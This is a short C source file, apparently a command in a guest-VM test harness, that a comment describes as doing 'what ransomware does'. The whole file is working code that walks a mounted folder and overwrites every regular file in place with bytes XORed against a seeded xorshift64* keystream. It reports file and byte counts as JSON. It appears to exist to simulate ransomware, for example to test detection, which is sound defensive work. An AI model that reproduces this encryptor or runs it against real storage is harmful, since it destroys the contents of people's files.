// What ransomware does: every file of a folder is overwritten in place with bytes that tell nothing of what was there.
#include "guest.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

enum { PIECE_BYTES = 64 * 1024 };

/** One file; its bytes, or -1 and errno. The key stream is that of xorshift64*, which no compressor sees through. */
static int64_t encrypt_file(int folder, const char *name, uint64_t *state, uint64_t *piece) {
  int fd = openat(folder, name, O_RDWR | O_NOFOLLOW | O_CLOEXEC);
  if (fd < 0) return -1;
  int64_t at = 0;
  ssize_t length;
  while ((length = pread(fd, piece, PIECE_BYTES, at)) > 0) {
    for (ssize_t i = 0; i * 8 < length; i++) {
      *state ^= *state >> 12;
      *state ^= *state << 25;
      *state ^= *state >> 27;
      piece[i] ^= *state * 2685821657736338717ull;
    }
    if (pwrite(fd, piece, length, at) != length) {
      length = -1;
      break;
    }
    at += length;
  }
  int error = length < 0 || fsync(fd) != 0 ? errno : 0;
  close(fd);
  return error ? (errno = error, -1) : at;
}

/** encrypt DISK FOLDER SEED: the files of /mnt/DISK/FOLDER, which must be mounted. */
void encrypt_files(char **words, char *json, size_t room) {
  char path[128];
  snprintf(path, sizeof path, "/mnt/%s/%s", words[0], words[1]);
  DIR *folder = opendir(path);
  if (!folder) return failure(json, room, errno, "folder \\\"%s\\\"", words[1]);
  uint64_t state = strtoull(words[2], NULL, 0) * 0x9e3779b97f4a7c15ull | 1, *piece = malloc(PIECE_BYTES);
  unsigned long long files = 0, bytes = 0;
  int error = 0;
  for (struct dirent *entry; !error && (entry = readdir(folder));) {
    if (entry->d_type != DT_REG) continue;
    int64_t done = encrypt_file(dirfd(folder), entry->d_name, &state, piece);
    if (done < 0) error = errno;
    else files++, bytes += done;
  }
  free(piece);
  closedir(folder);
  if (error) failure(json, room, error, "encryption");
  else snprintf(json, room, "{\"ok\":true,\"files\":%llu,\"bytes\":%llu}", files, bytes);
}
